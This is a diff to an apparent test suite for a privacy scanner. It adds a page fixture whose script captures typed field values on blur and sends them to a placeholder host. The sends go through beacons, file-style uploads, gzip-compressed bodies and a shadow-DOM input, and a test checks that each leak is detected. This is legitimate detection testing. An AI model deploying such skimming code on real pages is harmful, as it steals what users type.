@@ -94,6 +94,17 @@ document.querySelector('[name=mail]').addEventListener('input', (event) => event
 fetch('/collect?page=form', { method: 'POST', body: 'ready' });
 </script>"""
 )
+BLOBS = """<label>Blob <input></label><label>File <input></label><label>Packed <input></label><div></div><script>
+const leave = (field, send) => field.addEventListener('blur', () => send(field.value));
+const post = (body) => fetch('http://collect.example.net/collect', { method: 'POST', mode: 'no-cors', body });
+const [blob, file, packed] = document.querySelectorAll('input');
+leave(blob, (value) => navigator.sendBeacon('http://collect.example.net/collect', new Blob([value])));
+leave(file, (value) => { const form = new FormData(); form.append('note', new Blob([value]), 'note.txt'); post(form); });
+leave(packed, async (value) => post(await new Response(new Blob([value]).stream().pipeThrough(new CompressionStream('gzip'))).blob()));
+const root = document.querySelector('div').attachShadow({ mode: 'open' });
+root.innerHTML = '<input aria-label="Shadow">';
+leave(root.firstChild, (value) => post(value));
+</script>"""
 RECORDER = """<script src="http://static.example.net/recorder"></script>"""
 RECORDER_SCRIPT = """
 for (const type of ['mousemove', 'scroll', 'click', 'keydown']) document.addEventListener(type, () => {});
@@ -112,6 +123,7 @@ PAGES = {
     "/all-workers": shell(ALL_WORKERS),
     "/listener": shell(LISTENER),
     "/innocent-form": shell(INNOCENT_FORM),
+    "/blobs": shell(BLOBS),
     "/records": shell(RECORDER),
     "/search": shell(SEARCH),
     "/results": RESULTS,
@@ -224,6 +236,17 @@ def test_what_is_typed_is_found_plain_and_packed_in_what_leaves(
     assert {(s.what, s.host, s.form, s.where) for s in listener.typed} == {
         ("E-mail address", "collect.example.net", "base64", "body"),
         ("Name", "static.example.net", "plain", "url"),
+    }
+
+
+def test_what_is_typed_is_found_in_blobs_files_and_packed_bodies_and_typed_in_shadow_roots(
+    seen: Mapping[str, PrivacyVisit | Missing],
+) -> None:
+    page = visit_to(seen, "/blobs")
+
+    assert page.fields == 4
+    assert {(s.what, s.form, s.where) for s in page.typed} == {
+        (field, "plain", "body") for field in ("Blob", "File", "Packed", "Shadow")
     }
 
 
